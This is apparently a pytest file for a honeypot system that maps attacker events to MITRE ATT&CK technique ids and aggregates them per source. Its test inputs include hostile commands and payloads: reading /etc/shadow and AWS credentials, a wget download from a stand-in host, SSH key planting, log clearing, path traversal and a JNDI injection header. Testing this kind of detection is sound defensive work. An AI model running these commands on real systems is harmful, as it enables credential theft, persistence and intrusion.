"""Events by their source, and which techniques of ATT&CK they show."""

from __future__ import annotations

import re
from dataclasses import asdict
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.model.event import AttackerEvent
from decnet.plan import attack_table
from decnet.plan.attackers import Attacker, by_source, credentials, merged
from decnet.plan.techniques import techniques_of, techniques_of_logins

INSIDE, OUTSIDE = "10.1.2.3", "8.8.8.8"

FROZEN = {
    "T0836", "T0843", "T0846", "T0855", "T0858", "T0888", "T1087.002", "T1135", "T1482", "T1498.002",
    "T1552.001", "T1552.007", "T1557.001", "T1602.002", "T1610", "T1611", "T1613",
    "T1003.008", "T1016", "T1018", "T1021.001", "T1021.002", "T1021.004", "T1021.005", "T1033", "T1046",
    "T1049", "T1053.003", "T1057", "T1059.004", "T1070.003", "T1078", "T1082", "T1083", "T1090.001",
    "T1098.004", "T1105", "T1110", "T1110.001", "T1110.003", "T1110.004", "T1133", "T1136.001", "T1190",
    "T1548.003", "T1572", "T1595.001", "T1602.001",
}  # fmt: skip
"""Ids of ATT&CK 19, checked by hand."""


def event(
    kind: str, service: str = "ssh", source: str = OUTSIDE, at: float = 1.0, **fields: Any
) -> AttackerEvent:
    return AttackerEvent.model_validate(
        {
            "id": "e", "seq": 1, "at": at, "decky": "web", "service": service, "kind": kind,
            "source_ip": source, "source_port": 4711, "session": "s", "fields": fields,
        }
    )  # fmt: skip


def test_the_ids_of_the_table_are_those_of_attack_19() -> None:
    text = repr([value for name, value in vars(attack_table).items() if not name.startswith("_")])
    assert set(re.findall(r"T\d{4}(?:\.\d{3})?", text)) == FROZEN
    assert attack_table.ATTACK_VERSION == "19"


@pytest.mark.parametrize(
    ("seen", "techniques"),
    [
        (event("contact"), set()),
        (event("scan", source=INSIDE, probe="syn"), {"T1046"}),
        (event("scan", probe="syn"), {"T1595.001"}),
        (event("scan", source=INSIDE, probe="arp"), {"T1018"}),
        (event("login", success=False), set()),
        (event("login", success=True), {"T1078", "T1133"}),
        (event("login", source=INSIDE, success=True), {"T1078", "T1021.004"}),
        (event("login", "http", success=True), {"T1078"}),
        (event("command", input="uname -a; id"), {"T1059.004", "T1082", "T1033"}),
        (event("command", input="ip addr; ss -tln"), {"T1059.004", "T1016", "T1049"}),
        (event("command", input="cat /etc/shadow"), {"T1059.004", "T1003.008"}),
        (event("command", input="cd /tmp; wget http://192.0.2.1/x"), {"T1059.004", "T1105"}),
        (event("command", input="echo k >> ~/.ssh/authorized_keys"), {"T1059.004", "T1098.004"}),
        (event("command", input="crontab -e"), {"T1059.004", "T1053.003"}),
        (event("command", input="history -c"), {"T1059.004", "T1070.003"}),
        (event("command", input="sudo useradd x"), {"T1059.004", "T1548.003", "T1136.001"}),
        (event("command", input="echo provide"), {"T1059.004"}),
        (event("command", "redis", input="CONFIG SET dir /root/.ssh"), {"T1098.004"}),
        (event("command", "mysql", input="select id"), set()),
        (event("request", request="direct-tcpip", host="192.0.2.9", port=22), {"T1572", "T1090.001"}),
        (event("request", request="download", url="http://192.0.2.1/x"), {"T1105"}),
        (event("request", "http", path="/index.html", headers="Host: x"), set()),
        (event("request", "http", path="/../../etc/passwd"), {"T1190"}),
        (event("request", "http", path="/", headers="X-Api-Version: ${jndi:ldap://x}"), {"T1190"}),
        (event("request", "snmp", pdu="getnext"), {"T1602.001"}),
        (event("file", "ftp", path="/x"), {"T1105"}),
        (event("file", "smtp", name="mail"), set()),
        (event("command", input="cat ~/.aws/credentials"), {"T1059.004", "T1552.001"}),
        (event("request", "snmp", objects="1.3.6.1.4.1.9.9.96.1.1"), {"T1602.001", "T1602.002"}),
        # Services that have no decoy yet.
        (event("request", "smb", request="shares"), {"T1135"}),
        (event("file", "smb", method="open", path="it/passwords.xlsx"), {"T1552.001"}),
        (event("file", "smb", method="open", path="menu.docx"), set()),
        (event("request", "ldap", request="search", path="(objectClass=user)"), {"T1087.002"}),
        (
            event("request", "ldap", request="search", path="(objectClass=trustedDomain)"),
            {"T1087.002", "T1482"},
        ),
        (event("request", "dns", request="AXFR", path="example.org"), {"T1018"}),
        (event("request", "dns", path="example.org"), set()),
        (event("request", "llmnr", request="answer"), {"T1557.001"}),
        (event("request", "tftp", method="READ", path="running-config"), {"T1602.002"}),
        (event("request", "tftp", method="READ", path="x.bin"), set()),
        (event("request", "ntp", request="monlist"), {"T1498.002"}),
        (event("request", "ntp", request="time"), set()),
        (event("command", "docker_api", input="POST /containers/create"), {"T1610", "T1611"}),
        (event("command", "docker_api", input="GET /v1.41/images/json"), {"T1613"}),
        (event("command", "k8s", input="GET /api/v1/namespaces/kube-system/secrets"), {"T1552.007"}),
        (event("command", "k8s", input="GET /api/v1/pods"), {"T1613"}),
        (event("contact", "modbus"), {"T0846"}),
        (event("request", "modbus", request="read", count=3), set()),
        (event("request", "modbus", request="identify"), {"T0888"}),
        (event("request", "modbus", request="write"), {"T0855", "T0836"}),
        (event("request", "s7", request="stop"), {"T0858"}),
        (event("request", "s7", request="download"), {"T0843"}),
        (event("login", "rdp", source=INSIDE, success=True), {"T1078", "T1021.001"}),
        (event("login", "vnc", source=INSIDE, success=True), {"T1078", "T1021.005"}),
    ],
)
def test_an_event_shows_its_techniques(seen: AttackerEvent, techniques: set[str]) -> None:
    assert set(techniques_of(seen)) == techniques


@pytest.mark.parametrize(
    ("pairs", "technique"),
    [
        ([], ()),
        ([("root", "a")], ("T1110",)),
        ([("root", "a"), ("root", "b")], ("T1110.001",)),
        ([("root", "a"), ("admin", "a")], ("T1110.003",)),
        ([("root", "a"), ("admin", "b")], ("T1110.004",)),
    ],
)
def test_logins_together_show_how_passwords_were_guessed(
    pairs: list[tuple[str, str]], technique: tuple[str, ...]
) -> None:
    accounts, secrets = {each[0] for each in pairs}, {each[1] for each in pairs}
    assert techniques_of_logins(accounts, secrets, len(set(pairs))) == technique


def test_a_source_is_what_all_its_events_show() -> None:
    events = [
        event("contact", "http", at=5.0),
        event("login", at=2.0, username="root", password="a", success=False),
        event("login", at=3.0, username="root", password="b", success=True, folded=4),
        event("contact", source=INSIDE, at=9.0),
        event("lost", source="", count=3),
    ]
    found = by_source(events)
    assert sorted(found) == [INSIDE, OUTSIDE]
    one = found[OUTSIDE]
    assert (one.first, one.last, one.events, one.attempts, one.accepted) == (2.0, 5.0, 6, 5, 4)
    assert (one.services, one.severity, len(one.pairs)) == ({"http", "ssh"}, 8, 2)
    assert one.techniques == ("T1078", "T1110.001", "T1133")


def test_a_pair_lists_where_it_was_reused_the_widest_first() -> None:
    rows, others = credentials(
        [
            event("login", at=1.0, username="admin", password="x"),
            event("login", at=2.0, username="admin", password="x", success=True),
            event("login", at=3.0, username="root", password="y"),
            event("login", "ftp", source=INSIDE, at=4.0, username="root", password="y"),
            event("login", "snmp", at=5.0, community="public"),
            event("contact", at=6.0),
        ]
    )
    assert [(each.account, each.secret, each.reuse) for each in rows] == [
        ("root", "y", (2, 1, 2)), ("admin", "x", (1, 1, 2)), ("", "public", (1, 1, 1)),
    ]  # fmt: skip
    assert (rows[0].services, rows[1].accepted, others) == ({"ssh", "ftp"}, 1, 0)


@given(
    st.lists(
        st.builds(
            lambda kind, user, at, source: event(kind, at=at, source=source, username=user, input="id; ls"),
            st.sampled_from(["login", "command", "contact"]),
            st.text(max_size=3),
            st.floats(0, 1e9),
            st.sampled_from([INSIDE, OUTSIDE]),
        ),
        max_size=20,
    ),
    st.integers(0, 20),
)
def test_two_parts_merged_are_the_whole_also_after_they_were_stored(
    events: list[AttackerEvent], cut: int
) -> None:
    first = {source: Attacker.of(each.document()) for source, each in by_source(events[:cut]).items()}
    parts = merged(first, by_source(events[cut:]).values())
    assert {source: picture(each) for source, each in parts.items()} == {
        source: picture(each) for source, each in by_source(events).items()
    }


def picture(each: Attacker) -> dict[str, Any]:
    """All that is shown of a source."""
    counts = {"accounts": len(each.accounts), "secrets": len(each.secrets)}
    return {**asdict(each), **counts, "techniques": each.techniques}


def test_a_source_is_bounded_whatever_it_sends() -> None:
    one = Attacker(OUTSIDE, 0.0, 0.0)
    for number in range(1500):
        one.add(event("login", username=f"u{number}", password=f"p{number}"))
    assert (one.attempts, len(one.pairs), len(one.accounts)) == (1500, 1000, 2)
